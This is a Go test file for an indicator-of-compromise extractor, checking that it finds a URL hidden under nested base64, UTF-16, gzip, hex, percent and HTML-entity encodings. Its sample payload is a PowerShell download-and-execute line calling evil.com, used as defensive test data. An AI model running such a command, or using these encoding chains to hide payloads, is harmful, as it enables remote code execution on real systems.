package ioc_test

import (
	"bytes"
	"compress/gzip"
	"encoding/base64"
	"encoding/hex"
	"fmt"
	"net/url"
	"strings"
	"testing"
	"unicode/utf16"

	"github.com/retort-go/retort/assay/ioc"
)

func utf16LE(s string) string {
	var b []byte
	for _, u := range utf16.Encode([]rune(s)) {
		b = append(b, byte(u), byte(u>>8))
	}
	return string(b)
}

func gzipped(s string) string {
	var b bytes.Buffer
	w := gzip.NewWriter(&b)
	fmt.Fprint(w, s)
	w.Close()
	return b.String()
}

func TestNested(t *testing.T) {
	const hidden = "IEX (New-Object Net.WebClient).DownloadString('http://evil.com/a.ps1')"
	b64 := func(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }
	entities := ""
	for _, c := range "http://evil.com/a.ps1" {
		entities += fmt.Sprintf("&#%d;", c)
	}
	for _, tt := range []struct{ name, raw, chain string }{
		{"base64", b64(hidden), "base64"},
		{"base64 of UTF-16", b64(utf16LE(hidden)), "base64 utf-16"},
		{"base64 twice", b64(b64(hidden)), "base64 base64"},
		{"base64, gzip", b64(gzipped(hidden)), "base64 gzip"},
		{"base64url", base64.RawURLEncoding.EncodeToString([]byte(hidden + "??>>")), "base64"},
		{"hex", hex.EncodeToString([]byte(hidden)), "hex"},
		{"escaped hex", "\\x" + strings.Join(strings.Split(fmt.Sprintf("% x", "http://evil.com/a.ps1"), " "), "\\x"), "hex"},
		{"percent", url.QueryEscape("http://evil.com/a.ps1"), "percent"},
		{"character references", entities, "html"},
		{"UTF-16", utf16LE("http://evil.com/a.ps1"), "utf-16"},
		{"query", "https://www.google.com/url?q=http://evil.com/a.ps1&sa=D", "query"},
	} {
		text := "x (" + tt.raw + ") y"
		var got []string
		for _, m := range (ioc.Options{Kinds: []ioc.Kind{ioc.URL}, Nested: true}).Extract(text) {
			if strings.HasPrefix(m.Value, "https://www.google.com/") {
				continue // what leads there
			}
			if m.Raw != tt.raw || m.Detail == nil {
				t.Errorf("%s: %+v is not the encoded text", tt.name, m)
				continue
			}
			got = append(got, m.Value+" by "+strings.Join(m.Detail.Chain, " "))
		}
		if got, want := strings.Join(got, ", "), "http://evil.com/a.ps1 by "+tt.chain; got != want {
			t.Errorf("%s: got %q, want %q", tt.name, got, want)
		}
	}
	if got := (ioc.Options{Nested: true}).Extract("x " + b64(b64(b64(b64(hidden))))); len(got) > 0 {
		t.Errorf("four encodings deep: got %v", got)
	}
}
